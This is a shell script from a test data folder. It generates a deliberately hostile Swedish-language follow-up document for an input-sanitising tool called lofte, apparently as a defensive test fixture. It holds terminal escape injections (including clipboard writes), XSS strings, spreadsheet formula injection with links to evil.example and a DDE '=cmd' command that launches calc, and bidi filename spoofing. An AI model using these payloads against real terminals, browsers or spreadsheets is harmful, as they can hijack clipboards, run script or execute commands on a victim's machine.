#!/bin/sh
# Writes the hostile follow-up document (man/lofte.5) to standard output.
# The nasty bytes are written with printf octal escapes so that this file
# stays plain ASCII; README lists every input and what lofte does with it.
#   sh tests/data/hostile/hostile-doc.sh > hostile.md
set -eu

p() { printf "$@"; }

p '# Löfte <script>alert(1)</script> "citat" &amp; '\''apos'\''\n\n'
p 'Kommun: Hostila kommunen\nÅr: 2024\nParter: Polisen, <b>Kommunen</b>, =1+1\n\n'
p 'Beskrivning med \033]2;PWNED-DESC\007 titel.\n'

# 1: terminal escape sequences and control characters.
p '\n## 1. Rubrik \033]2;PWNED-TITLE\007 slut\n\nAnsvariga: Polisen\n'
p '\n### Tertial 1\n\nStatus: Pågår\nKommentar: K\033]52;c;UFdORUQ=\007K\n\n'
p 'OSC52 Q\033]52;c;UFdORUQ=\007Q slut\n'
p 'OSC2 Q\033]2;PWNED-OSC2\007Q slut\n'
p 'OSC8 Q\033]8;;http://evil.example/\033\\länk\033]8;;\033\\Q slut\n'
p 'CLEAR Q\033[2J\033[HQ slut\n'
p 'MOVE Q\033[1337;42HQ slut\n'
p 'DSR Q\033[6nQ slut\n'
p 'SGR Q\033[31;5mQ slut\n'
p 'CHARSET Q\033(0Q slut\n'
p 'RESET Q\033cQ slut\n'
p 'DCS Q\033P1$qm\033\\Q slut\n'
p 'C0 Q\001\010\007\013\014\016\033\177Q slut\n'
p 'C1 Q\302\205\302\233\302\235\302\237Q slut\n'
p 'TAB Q\tQ slut\n'

# 2: text that imitates the document format itself.
p '\n### Tertial 2\n\nStatus: Genomförd\n\n'
p 'Status: Avbruten\n\\# Falskt löfte\n\\## 2. Falsk aktivitet\n\\### Tertial 3\n'
p 'Kommun: Fejkkommun\n\\# redan skyddad\n\\\\ dubbel\n   ## indragen\n\\#ingen rubrik\n'

# 3: HTML.
p '\n## 2. <script>alert("t")</script> "><img src=x onerror=alert(1)>\n\n'
p 'Ansvariga: Polisen\nMål: "pass" & \047x\047 ≥ 5\n\n'
p 'Beskrivning </li></ul><script>alert(2)</script>\n'
p '\n### Tertial 1\n\nStatus: Pågår\nKommentar: <script>alert(3)</script>\nUtfall: "pass" & \047x\047 = 3\n\n'
p 'HTML <script>alert(4)</script> slut\n'
p '</td></tr></table><h1>falsk</h1>\n'
p '" onmouseover="alert(5)" x="\n'
p '\047 onfocus=\047alert(6)\047\n'
p '&lt;redan&gt; &amp; <!-- ]]> javascript:alert(7)\n'

# 4: spreadsheet formulas at the start of a CSV cell.
p '\n## 3. =HYPERLINK("http://evil.example/?"&A1;"Klicka")\n\n'
p 'Ansvariga: @SUM(1+1), +46 10 123, -minus\n'
p '\n### Tertial 1\n\nStatus: Pågår\n\n=HYPERLINK("http://evil.example/";"Klicka")\n'
p '\n### Tertial 2\n\nStatus: Pågår\n\n+SUM(1;2)\n'
p '\n### Tertial 3\n\nStatus: Pågår\n\n-1+2\n'
p '\n## 4. @SUM(A1:A9)\n\nAnsvariga: Polisen\n'
p '\n### Tertial 1\n\nStatus: Pågår\n\n@SUM(A1:A9)\n'
p '\n### Tertial 2\n\nStatus: Pågår\n\n\t=1+1 efter tabb\n'

# 5: bidirectional overrides and isolates.
p '\n## 5. Bidi \342\200\256gnp.exe\342\200\254 slut\n\nAnsvariga: Polisen\n'
p '\n### Tertial 1\n\nStatus: Pågår\n\n'
p 'RLO Q\342\200\256abc\342\200\254Q LRI Q\342\201\246x\342\201\251Q slut\n'

# 6: zero-width and combining characters.
p '\n## 6. No\342\200\213ll\342\200\215bredd e\314\201 Z\314\267\314\242\315\211a\314\270\n\n'
p 'Ansvariga: Polisen\n'
p '\n### Tertial 1\n\nStatus: Pågår\n\n'
p '\314\201Kombinerande först, ZWSP\342\200\213ZWJ\342\200\215BOM\357\273\277slut\n'

# 7: wide characters.
p '\n## 7. 漢字かな 👮 bred\n\nAnsvariga: Polisen\n'
p '\n### Tertial 1\n\nStatus: Pågår\n\n漢字かな 👮 bred text\n'

# A second promise whose municipality is a formula and markup.
p '\n# Andra löftet\n\nKommun: =cmd|\047 /C calc\047!A0 <b>\nÅr: 2024\n'
p '\n## 1. Vanlig\n\nAnsvariga: Polisen\n'
